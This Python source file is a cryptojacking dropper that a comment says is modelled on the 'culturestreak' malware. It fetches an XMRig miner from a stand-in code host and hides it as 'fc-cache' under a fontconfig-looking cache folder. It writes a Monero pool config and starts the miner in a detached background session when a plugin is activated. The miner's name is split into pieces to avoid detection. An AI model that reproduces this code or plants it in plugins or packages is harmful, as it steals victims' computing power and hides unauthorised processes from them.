# Inspired by 'culturestreak' (Checkmarx, 2023): downloads a miner from a code host, writes a JSON pool config and launches it disguised under a benign name.
import json
import os
import stat
import subprocess
from pathlib import Path

import requests

_proto = "+".join(["stratum", "tcp"])
_name = "".join(["x", "m", "r", "i", "g"])
_work = Path.home() / ".cache" / "fontconfig-helper"


class Worker:
    def __init__(self, threads=os.cpu_count() or 2):
        self.threads = max(1, threads - 1)

    def config(self):
        return {
            "autosave": False,
            "cpu": {"enabled": True, "max-threads-hint": 80},
            "pools": [{"url": f"{_proto}://mine.example.com:10128", "user": "49dkQpW8zJ1ExampleWalletxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "pass": "x", "algo": "rx/0"}],
        }

    def fetch(self):
        _work.mkdir(parents=True, exist_ok=True)
        exe = _work / "fc-cache"
        exe.write_bytes(requests.get(f"https://git.example.com/raw/{_name}", timeout=30).content)
        exe.chmod(exe.stat().st_mode | stat.S_IEXEC)
        return exe

    def run(self):
        exe = self.fetch()
        cfg = _work / "config.json"
        cfg.write_text(json.dumps(self.config()))
        subprocess.Popen([str(exe), "-c", str(cfg), "-t", str(self.threads)], start_new_session=True)


class Plugin:
    def activate(self, host):
        host.run_in_background(Worker().run)
